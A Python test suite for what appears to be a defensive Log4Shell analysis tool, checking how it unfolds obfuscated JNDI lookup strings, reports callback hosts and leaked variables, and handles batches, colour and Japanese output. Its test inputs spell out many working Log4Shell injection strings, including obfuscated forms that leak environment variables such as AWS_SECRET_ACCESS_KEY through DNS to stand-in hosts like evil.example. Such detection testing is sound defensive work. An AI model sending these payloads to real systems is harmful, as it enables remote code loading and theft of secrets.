"""hikeshi explain from outside: single texts, batches, and the labelled messages where they exist."""
import json, os, pathlib, re, select, subprocess, unicodedata, unittest

ROOT = pathlib.Path(__file__).resolve().parents[2]
TOOL = str(ROOT / os.environ.get("HIKESHI_BUILD", "build") / "hikeshi")
DATA = ROOT.parent / "shared" / "data" / "lookups"
LONGEST = 4 << 20
JAPANESE = "ja_JP.UTF-8"


def explain(*args, stdin=b"", lang="C.UTF-8", **env):
    plain = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS")}
    return subprocess.run([TOOL, "explain", *args], input=stdin, capture_output=True, timeout=300,
                          env={**plain, "LC_ALL": lang, **env})


def shown(text, *args, **env):
    return explain(*args, "--", text, **env).stdout.decode()


def answers(messages):
    done = explain("--as-message", "--batch", stdin=b"".join(m + b"\n" for m in messages))
    return done.stdout.split(b"\n")[:-1], done.returncode


def batch(messages):
    return answers(messages)[0]


def judged(lines):
    done = explain("--format", "json", "-", stdin=b"".join(x + b"\n" for x in lines))
    return [json.loads(x) for x in done.stdout.decode(errors="replace").splitlines()]


def width(line):
    return sum(0 if unicodedata.combining(c) else 2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line)


def unfolded(one):
    """The text of a JSON answer behind each of its steps, as the steps themselves say."""
    text, texts = one["text"].encode(), []
    for step in one["steps"]:
        at, end = step["at"], step["at"] + step["bytes"]
        if step["kind"] == "escape":
            text = text[:at] + b"${" + text[end:]
        elif step["kind"] in ("value", "default"):
            text = text[:at] + step["value"].encode() + text[end:]
        elif step["kind"] == "unresolved":
            text = text[:at] + step["variable"].encode() + text[end:]
        elif step["kind"] == "pass":
            assert text == step["variable"].encode(), (text, step)
        texts.append((step["kind"], text, text[at:end]))
    return texts


MOCKUP = """\
REACHES   once URL-decoded, this lookup would be done

  0  as given
     %24%7B${lower:J}ndi:${::-l}dap://${env:USER}.q7.example/a%7D
  1  URL decoding
     ${${lower:J}ndi:${::-l}dap://${env:USER}.q7.example/a}
       ^^^^^^^^^^
  2  ${lower:J} is j
     ${jndi:${::-l}dap://${env:USER}.q7.example/a}
            ^^^^^^^
  3  ${::-l} finds nothing and takes its default, l
     ${jndi:ldap://${env:USER}.q7.example/a}
                   ^^^^^^^^^^^
  4  ${env:USER} is this server's environment variable USER
     ${jndi:ldap://<USER>.q7.example/a}
  5  jndi lookup

  calls back   ldap   <USER>.q7.example   port 389 (default)   path /a
  leaks        environment variable USER, in the host name: a DNS query is
               enough to carry it out
  next         hikeshi hunt --outbound LOG --ioc '*.q7.example' LOGS
"""
DISGUISED = "%24%7B${lower:J}ndi:${::-l}dap://${env:USER}.q7.example/a%7D"


class Texts(unittest.TestCase):
    maxDiff = None

    def test_a_disguised_text_is_unfolded(self):
        done = explain(DISGUISED)
        self.assertEqual((done.stdout.decode(), done.stderr, done.returncode), (MOCKUP, b"", 0))

    def test_a_plain_lookup_needs_no_steps(self):
        self.assertEqual(shown("${jndi:ldap://203.0.113.9:1389/a"),
                         "IF-CLOSED  would be done, had the line not been cut: a } is missing\n"
                         "  calls back   ldap   203.0.113.9   port 1389   path /a\n"
                         "  next         hikeshi hunt --outbound LOG --ioc 203.0.113.9 LOGS\n")

    def test_verdicts_and_exit_codes(self):
        for text, word, code in (("${jndi:ldap://203.0.113.9:1389/a", "IF-CLOSED", 0),
                                 ("${ jndi:ldap://203.0.113.9/a}", "ATTEMPT", 0),
                                 ("total: ${amount}", "NONE", 1), ("", "NONE", 1)):
            done = explain(text)
            self.assertEqual((done.stdout.decode().split()[0], done.returncode), (word, code), text)

    def test_wrong_usage_says_what_to_do(self):
        for args, word in (((), "single quotes"), (("--batch",), "--as-message"), (("--format", "xml", "a"), "text, json"),
                           (("--as-message", "--batch", "x"), "takes no text"), (("--colour", "blue", "a"), "auto, always"),
                           (("--frob", "a"), "--frob"), (("a", "b"), "one text"), (("--format",), "--help"),
                           (("--as-message", "--format", "json", "a"), "--format")):
            for lang in ("C.UTF-8", JAPANESE):
                done = explain(*args, lang=lang)
                said = done.stderr.decode()
                self.assertEqual((done.returncode, done.stdout, said.count("\n")), (2, b"", 1), args)
                self.assertIn(word if lang != JAPANESE or word.startswith(("--", "text", "auto")) else "。", said)
                self.assertEqual(lang == JAPANESE, any(width(c) == 2 for c in said), said)

    def test_help_names_every_option_in_both_languages(self):
        manual = (ROOT / "packaging/man/hikeshi-explain.1").read_text()
        for lang in ("C.UTF-8", JAPANESE):
            done = explain("--help", lang=lang)
            text = done.stdout.decode()
            self.assertEqual((done.returncode, done.stderr), (0, b""))
            for option in ("--format", "--as-message", "--batch", "--colour", "NO_COLOR", "budget", "length"):
                self.assertIn(option, text)
                self.assertIn(option.replace("--", "Fl -") if option[0] == "-" else option, manual)
            self.assertEqual([x for x in text.splitlines() if width(x) > 100], [])
        self.assertIn("使い方", text)

    def test_trouble_is_told_in_the_language_of_the_reader(self):
        for lang, word in (("C.UTF-8", b"cannot be written"), (JAPANESE, "標準出力に書けません".encode())):
            with open("/dev/full", "wb") as full:
                done = subprocess.run([TOOL, "explain", DISGUISED], stdout=full, stderr=subprocess.PIPE,
                                      env={**os.environ, "LC_ALL": lang})
            self.assertEqual(done.returncode, 2)
            self.assertIn(word, done.stderr)
        folder = os.open("/", os.O_RDONLY)
        self.addCleanup(os.close, folder)
        done = subprocess.run([TOOL, "explain", "-"], stdin=folder, capture_output=True, env={**os.environ, "LC_ALL": JAPANESE})
        self.assertEqual(done.returncode, 2)
        self.assertIn("標準入力を読めません", done.stderr.decode())


class Steps(unittest.TestCase):
    def test_an_escape_takes_its_dollar(self):
        out = shown("$${jndi:ldap://a.example/b} ${q}").split("\n")
        at = out.index("  1  $${ loses a dollar, and stays plain text")
        self.assertEqual(out[at - 2:at + 2], ["     $${jndi:ldap://a.example/b} ${q}", "     ^^^", out[at],
                                              "     ${jndi:ldap://a.example/b} ${q}"])

    def test_steps_lead_from_each_text_to_the_next(self):
        for message, want in ((b"$${jndi:a} ${q}", b"${jndi:a} ${q}"),
                              (b"${x:-$${a}}${jndi:${lower:B${env:C}}${::-}}", b"${a}${jndi:b${env:c}}"),
                              (b"${a${b:-c}${d}:-${e:-f}}${jndi:z}", b"f${jndi:z}"),
                              (b"${a:-${a${q}}} ${jndi:z}", b"${a${q}} ${jndi:z}")):
            (one,) = judged([message])
            kind, text, piece = unfolded(one)[-1]
            self.assertEqual((kind, text), ("jndi", want), one)
            self.assertEqual(piece, b"${jndi:" + one["key"].encode() + b"}")

    def test_plain_steps_side_by_side_are_one(self):
        out = shown("${${env:X:-j}${lower:N}${::-d}${upper:i}:${::-}ldap://h.example}")
        self.assertIn("  1  5 variables take their values: j, n, d, I, \"\"\n     ${jndI:ldap://h.example}\n", out)
        self.assertIn("\n       %s %s\n" % ("^" * len("${env:X:-j}${lower:N}${::-d}${upper:i}"), "^" * 6), out)
        two = shown("${${::-j}${lower:N}di:ldap://h.example}")
        self.assertIn("takes its default, j\n", two)

    def test_no_more_than_sixty_steps_are_told(self):
        text = "".join("${a%d}" % i for i in range(100)) + "${jndi:ldap://${env:USER}.h.example/}"
        out = shown(text)
        self.assertIn("\n  59  ", out)
        self.assertIn("\n  … and 42 steps more\n     ${jndi:ldap://<USER>.h.example/}\n  60  jndi lookup\n", out)
        self.assertIn("environment variable USER", out)
        self.assertEqual(len(re.findall(r"(?m)^  \d+  ", out)), 61)
        self.assertIn("ほか 42 段", shown(text, lang=JAPANESE))
        (one,) = judged([text.encode()])
        self.assertEqual((len(one["steps"]), one["step_count"]), (60, 102))

    def test_a_long_text_is_shown_around_the_piece(self):
        out = shown("x" * 5000 + "${${lower:J}ndi:ldap://h.example/" + "y" * 5000 + "}")
        self.assertLess(len(out), 12000)
        self.assertIn("…xxx", out)
        self.assertIn("^^^^^^^^^^", out)

    def test_colour_is_a_second_sign(self):
        painted = shown(DISGUISED, "--colour=always", NO_COLOR="1")
        plain = [x for x in MOCKUP.split("\n") if not re.fullmatch(r" +\^+", x)]
        self.assertEqual(re.sub("\x1b\\[[0-9;]*m", "", painted).split("\n"), plain)
        for code, text in (("1;31", "REACHES"), ("4", "${lower:J}"), ("4", "${env:USER}"), ("33", "leaks"),
                           ("1;31", "<USER>.q7.example"), ("2", "  3")):
            self.assertIn("\x1b[%sm%s\x1b[0m" % (code, text), painted)
        self.assertIn("\x1b[33mIF-CLOSED\x1b[0m", shown("${jndi:ldap://a", "--color", "always"))
        self.assertIn("\x1b[33mATTEMPT\x1b[0m", shown("${ jndi:ldap://a}", "--colour", "always"))
        self.assertEqual(shown("x", "--colour", "always"), shown("x"))
        for when in ((), ("--colour=auto",), ("--colour=never",)): # no terminal
            self.assertEqual(shown(DISGUISED, *when), MOCKUP)

    def test_colour_on_a_terminal(self):
        for env, want in (({"TERM": "xterm"}, True), ({"TERM": "xterm", "NO_COLOR": "1"}, False), ({"TERM": "dumb"}, False)):
            ours, theirs = os.openpty()
            plain = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS")}
            subprocess.run([TOOL, "explain", DISGUISED], stdout=theirs, env={**plain, "LC_ALL": "C.UTF-8", **env}, check=True)
            os.close(theirs)
            out = b""
            try:
                while piece := os.read(ours, 4096):
                    out += piece
            except OSError: # the other end is closed
                pass
            os.close(ours)
            self.assertEqual((b"\x1b[1;31mREACHES" in out, b"^^^" in out), (want, not want), env)

    def test_width(self):
        texts = (DISGUISED, "${ jndi:x}", "$${jndi:ldap://a.example/b}", "${${a:-${a:-${a}}}jndi:x}",
                 "日本語のとても長い文字列" * 8 + "${${lower:J}ndi:${lower:L}dap://${env:AWS_SECRET_ACCESS_KEY:-名前}.h.example/" + "z" * 60 + "}")
        for columns in (80, 120):
            for lang in ("C.UTF-8", JAPANESE):
                for text in texts:
                    lines = shown(text, lang=lang, COLUMNS=str(columns)).splitlines()
                    self.assertEqual([x for x in lines if width(x) > columns and not re.search("path|パス|next|次に", x)], [])
                    labels = [x for x in lines if re.match(r"  \S", x) and not re.match(r"  \d", x)]
                    self.assertTrue(labels)
                    for x in labels: # what stands behind a label begins in one column
                        name = re.match(r"  (calls back|leaks|next|呼び返し先|漏えい|次に) +", x)
                        self.assertEqual(width(name[0]), 15, x)
        first = [x for x in shown(texts[-1], COLUMNS="80").splitlines() if "日本語" in x][0]
        wide = [x for x in shown(texts[-1], COLUMNS="120").splitlines() if "日本語" in x][0]
        self.assertTrue(78 <= width(first) <= 80 and 118 <= width(wide) <= 120, (first, wide))

    def test_carets_stand_below_their_piece(self):
        for columns in ("40", "80", "120"):
            lines = shown("全角の文字" * 9 + "${jndi${::-:}ldap://h.example/}", COLUMNS=columns).splitlines()
            marked, above = "", 0
            for text, carets in zip(lines, lines[1:]):
                if not re.fullmatch(r" +\^+", carets):
                    continue
                column = 0
                for c in text:
                    if column < len(carets) and carets[column] == "^":
                        marked += c
                    column += width(c)
            self.assertEqual(marked, "${::-:}", columns)

    def test_hostile_bytes_are_escaped(self):
        text = "a\x1b[31m\u202e\u2066${jndi${::-:}ldap://\x1b]0;x\x07.h\u200f/\x9b\r\n${env:\x1bA}}"
        for args in ((), ("--colour", "always")):
            out = explain(*args, text).stdout.decode()
            out = re.sub(r"\x1b\[(1;31|33|2|4|0)m", "", out) if "always" in args else out
            self.assertEqual([c for c in out if c != "\n" and (unicodedata.category(c) in ("Cc", "Cf"))], [], args)
        self.assertEqual(re.findall("[\\0-\\x09\\x0b-\\x1f]", explain("--format", "json", text).stdout.decode()), [])
        self.assertIn("\\x1b]0;x\\x07.h\\u200f", explain(text).stdout.decode())
        raw = subprocess.run([TOOL, "explain", b"\xff\xfe${jndi${::-:}ldap://\xc3/}"], capture_output=True).stdout
        self.assertIn(b"\\xff\\xfe${jndi:ldap://\\xc3/}", raw)

    def test_japanese(self):
        out = shown(DISGUISED, lang=JAPANESE)
        for piece in ("到達      URL デコードの後、この参照が実行されます", "  2  ${lower:J} は j になります\n",
                      "  4  ${env:USER} はこのサーバーの環境変数 USER です\n", "ポート 389(既定)   パス /a\n",
                      "  漏えい       環境変数 USER。ホスト名に含まれる"):
            self.assertIn(piece, out)
        every = "".join(shown(x, lang=JAPANESE) for x in (
            "${ jndi:x}", "${jndi", "${jndii:x}", "${jndi;x}", "${jndi:-x}", "$${jndi:x}", "${base64:eA}",
            "${${a:-${a:-${a}}}jndi:x}", "${jndi:dns://${hostName}", "${jndi:${sys:a:-bc}", "${${java:nothing}jndi:x}"))
        self.assertEqual(re.findall(r"[a-z]{3,} [a-z]{2,} [a-z]{2,}", every), [])


class Ends(unittest.TestCase):
    def test_why_an_attempt_cannot_reach(self):
        for text, why in (("${ jndi:ldap://x/a}", 'the name is " jndi", with a space before it'),
                          ("${jndi", "the text ends before the colon"),
                          ("${jndii:ldap://x/a}", 'the name is "jndii" and not jndi'),
                          ("${jndi_x:ldap://x/a}", 'the name is "jndi_x" and not jndi'),
                          ("${jndi\r:ldap://x/a}", 'behind jndi stands "\\x0d" where a colon has to be'),
                          ("${jndi\x11:ldap://x/a}", 'behind jndi stands "\\x11" where a colon has to be'),
                          ("${jndi;ldap://x/a}", 'behind jndi stands ";" where a colon has to be'),
                          ("${jndi:-ldap://x/a}", ":- stands behind jndi"),
                          ("$${jndi:ldap://x/a}", "in $${jndi the first dollar makes the rest plain text"),
                          ("${base64:abc}", "base64: is no lookup of any version"),
                          ("${${a:-${a:-${a}}}jndi:x}", "${a} stands within itself"),
                          ("${${java:nothing}jndi:x}", "${java:nothing} is an error"),
                          ("${" * 1200 + "jndi:x" + "}" * 1200, "longer or more nested than can be evaluated")):
            out = re.sub(r"\s+", " ", shown(text))
            self.assertTrue(out.startswith("ATTEMPT "), out)
            self.assertIn(why, out)
        self.assertNotIn("cannot:", out) # of the last nobody knows

    def test_hunt_says_the_same(self):
        for text, why in (("${base64:abc}", "base64: is no lookup of any version"),
                          ("${" * 1200 + "jndi:x" + "}" * 1200, "longer or more nested than can be evaluated")):
            done = subprocess.run([TOOL, "hunt", "-"], input=text.encode() + b"\n", capture_output=True,
                                  env={**os.environ, "LC_ALL": "C.UTF-8"})
            self.assertIn(why, done.stdout.decode())
            self.assertIn(why, re.sub(r"\s+", " ", shown(text)))

    def test_what_leaks(self):
        for text, host, leaks, ioc in (
                ("${jndi:ldap://${env:USER:-x}.q7.example/a}", "<USER>.q7.example",
                 ['environment variable USER ("x" where it is not set), in the host name'], "'*.q7.example'"),
                ("${jndi:ldap://${env:A:-}${hostName}.q7.example/}", "<A><hostName>.q7.example",
                 ["environment variable A (nothing where it is not set), in the host", "this server's name, in the host"], "'*.q7.example'"),
                ("${jndi:ldap://${lower:${ENV:User}}.q7.example/${sys:user.name}/${sys:user.name}", "<User>.q7.example",
                 ["environment variable User, in the host", "system property user.name\n"], "'*.q7.example'"),
                ("${jndi:ldap://${java:version}.a.q7.example/${env:HOME}", "<version>.a.q7.example",
                 ["what Java says of its version, in the host", "environment variable HOME\n"], "'*.a.q7.example'"),
                ("${jndi:ldap://${env:WHO:-evil.example}/a}", "<WHO>", ['environment variable WHO ("evil.example"'], "evil.example"),
                ("${jndi:ldap://${event:Level}.q7.example/${date:yyyy}}", "<Level>.q7.example",
                 ["the Level of the message in the log, in the host"], "'*.q7.example'"),
                ("${jndi:ldap://${date:yyyy}${date:'x'}.q7.example/}", "<yyyy>x.q7.example", [], "'*.q7.example'"),
                ("${jndi:ldap://${env:A:-${env:B}}.co.jp:${env:P:-389}/}", "<A><B>.co.jp", ["environment variable A (nothing", "environment variable B", "environment variable P"], None),
                ("${jndi:ldap://${env:A:-evil.example:389/a}}", "evil.example", [], "evil.example"),
                ("${jndi:ldap://u${env:U@evil.example}.q7.example/}", "u<U@evil.example>.q7.example",
                 ["environment variable U@evil.example, in the host"], "'*.q7.example'"),
                ("$${a} ${jndi:ldap://${ctx:id}.q7.example/}", "<id>.q7.example", ["value id of the log's context"], "'*.q7.example'"),
                ("${${env:X:-j}ndi${env:X:-:}ldap://${env:X:-e}vil${sys:file.separator}a}", "evil", [], "evil")):
            out = shown(text, COLUMNS="200")
            self.assertIn("   %s   port 389" % host, out)
            self.assertEqual(len(re.findall("(?m)^  leaks ", out)), len(leaks), out)
            for leak in leaks:
                self.assertIn("  leaks        " + leak, out)
            self.assertIn("--outbound LOG --ioc %s LOGS\n" % ioc if ioc else "--outbound LOG LOGS\n", out)

    def test_a_letter_leaks_where_it_is_no_part_of_a_word(self):
        for behind, leaks in (("vil", 0), ("9", 0), (".", 1), ("\x11", 1), ("_", 1)):
            (one,) = judged([("${jndi:ldap://h.example/${env:X:-e}%s}" % behind).encode()])
            self.assertEqual(len(one["leaks"]), leaks, one)

    def test_a_text_beyond_the_budget_of_a_line_is_still_followed(self):
        text = b"${jndi:ldap://" + b"${env:A}." * (450 << 10) + b"h.example/}"
        (one,) = judged([text])
        self.assertEqual((one["verdict"], one["reason"], one["callback"]["scheme"]), ("reaches", None, "ldap"))
        self.assertEqual(one["key"].encode(), text[7:-1])

    def test_where_nobody_is_called(self):
        for text in ("${jndi:java:comp/env/jdbc}", "${jndi:}"):
            out = shown(text)
            self.assertIn("  calls back   no host is named", out)
            self.assertTrue(out.endswith("  next         hikeshi hunt LOGS\n"), out)

    def test_json(self):
        one, two, three, four = judged([b"${jndi:rmi://${sys:user.name}.x.example:99/${env:A:-bc}}", b"${ jndi:x}", b"x",
                                        b"%24{jndi:x}"])
        self.assertEqual(one["callback"], {"scheme": "rmi", "host": "${sys:user.name}.x.example", "port": 99, "path": "/${env:A:-bc}"})
        self.assertEqual(one["leaks"], [{"name": "sys:user.name", "in_host": True},
                                        {"name": "env:A", "default": "bc", "in_host": False}])
        self.assertEqual([(x["verdict"], x["reason"], x["chain"]) for x in (one, two, three, four)],
                         [("reaches", None, []), ("attempt", "inert", []), ("none", None, []), ("reaches", None, ["url"])])
        self.assertEqual([x["kind"] for x in one["steps"]], ["unresolved", "default", "jndi"])


class Lines(unittest.TestCase):
    def test_messages_stand_alone(self):
        for message, want in ((b"$${jndi:a} ${q}", b"1\ta"), (b"$$${jndi:a} ${q}", b"0"), (b"${::-$}${jndi:a}", b"0"),
                              (b"${jndi:a:-${jndi:b}}", b"1\tb"), (b"${jndi:\\-a:-b}", b"1\ta"), (b"plain", b"0"),
                              (b"${${::-j}${::-n}di:a}", b"1\ta"), (b"%24{jndi:a}", b"0"), (b"", b"0")):
            self.assertEqual(batch([message]), [want], message)
        self.assertEqual(explain("--as-message", "${jndi:a}").stdout, b"1\ta\n")
        for messages, code in (([b"x", b"${jndi:a}"], 0), ([b"x"], 1), ([], 1)):
            self.assertEqual(answers(messages)[1], code)

    def test_a_spent_budget_is_no_answer(self):
        deep = b"${" * 1200 + b"jndi:x" + b"}" * 1200
        self.assertEqual(answers([b"${jndi:a}", deep, b"x", b"${jndi:b}"]), ([b"1\ta", b"?\tbudget", b"0", b"1\tb"], 2))
        done = explain("--as-message", deep)
        self.assertEqual((done.stdout, done.returncode), (b"?\tbudget\n", 2))

    def test_a_line_that_is_too_long_is_told_and_passed_over(self):
        for more, told in ((0, b"0"), (1, b"?\tlength"), (LONGEST, b"?\tlength")):
            long = b"x" * (LONGEST + more)
            self.assertEqual(answers([b"${jndi:a}", long, b"${jndi:b}"]),
                             ([b"1\ta", told, b"1\tb"], 2 if more else 0), more)
        lines = b"${jndi:ldap://a.example/}\n" + long + b"\nx\n" + long # the last has no end
        done = explain("--format", "json", "-", stdin=lines)
        self.assertEqual([json.loads(x)["verdict"] for x in done.stdout.splitlines()],
                         ["reaches", "not-examined", "none", "not-examined"])
        self.assertEqual(done.returncode, 2)
        for lang, word in (("C.UTF-8", "NOT EXAMINED  longer than 4 MiB; search it with hikeshi hunt"), (JAPANESE, "未検査  4 MiB を超えています")):
            done = explain("-", stdin=lines, lang=lang)
            out = done.stdout.decode()
            self.assertEqual((out.count(word), done.returncode), (2, 2))
        self.assertEqual(len(re.findall("(?m)^[1-4] 行目:$", out)), 4)

    def test_lines_are_told_apart(self):
        out = explain("-", stdin=b"x\n\n${jndi:ldap://a.example/}").stdout.decode()
        self.assertEqual(re.findall(r"line \d+:\n\S+", out), ["line 1:\nNONE", "line 2:\nNONE", "line 3:\nREACHES"])

    def test_a_program_may_ask_and_read_in_turns(self):
        tool = subprocess.Popen([TOOL, "explain", "--as-message", "--batch"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.addCleanup(tool.wait)
        self.addCleanup(tool.stdout.close)
        self.addCleanup(tool.stdin.close)
        for message, want in ((b"${jndi:a}", b"1\ta\n"), (b"x", b"0\n"), (b"${${::-j}ndi:b}", b"1\tb\n")):
            tool.stdin.write(message + b"\n")
            tool.stdin.flush()
            self.assertTrue(select.select([tool.stdout], [], [], 20)[0], "no answer before the input ends")
            self.assertEqual(tool.stdout.readline(), want)
        tool.stdin.close()
        self.assertEqual(tool.wait(20), 0)


@unittest.skipUnless(DATA.is_dir(), "the labelled messages are not here")
class Labelled(unittest.TestCase):
    def messages(self, file):
        rows = [x.split(b"\t", 2) for x in (DATA / file).read_bytes().split(b"\n") if x]
        want = [b"0" if r[0] == b"0" else b"1\t" + r[1].split(b" | ")[0] for r in rows]
        got = batch([r[2] for r in rows])
        self.assertEqual(len(got), len(want))
        self.assertEqual([(r[2], g) for r, w, g in zip(rows, want, got) if w != g], [])

    def test_edge_cases(self):
        self.messages("edge-cases.tsv")

    def test_generated_messages(self):
        self.messages("fuzz-visible.tsv")

    def test_collected(self):
        rows = [x.split(b"\t", 4) for x in (DATA / "collected.tsv").read_bytes().split(b"\n") if x]
        for kind, verdict in ((b"A", "reaches"), (b"T", "if-closed")):
            lines = [r[4] for r in rows if r[0] == kind]
            self.assertEqual([x for x, v in zip(lines, judged(lines)) if v["verdict"] != verdict], [])

    def test_steps_lead_to_the_key(self):
        lines = [x.split(b"\t", 4)[4] for x in (DATA / "collected.tsv").read_bytes().split(b"\n") if x]
        seen = 0
        for one in judged(lines):
            if one["verdict"] < "if-closed" or "\ufffd" in json.dumps(one, ensure_ascii=False):
                continue
            kind, _, piece = unfolded(one)[-1]
            if one["step_count"] <= 60:
                self.assertEqual((kind, piece[7:7 + len(one["key"].encode())].decode()), ("jndi", one["key"]), one)
                seen += 1
        self.assertGreater(seen, 250)

    def test_encoded(self):
        for file in sorted((DATA / "encoded").iterdir()):
            lines = [x for x in file.read_bytes().split(b"\n") if x]
            self.assertEqual([x for x, v in zip(lines, judged(lines)) if v["verdict"] != "reaches"], [], file.name)

    def test_harmless(self):
        for file in ("benign-tricky.log", "not_jndi.txt"):
            lines = [x for x in (DATA / file).read_bytes().split(b"\n") if x]
            wrong = [x for x, v in zip(lines, judged(lines)) if v["verdict"] == "reaches"]
            self.assertEqual(wrong, [], file)


if __name__ == "__main__":
    unittest.main()
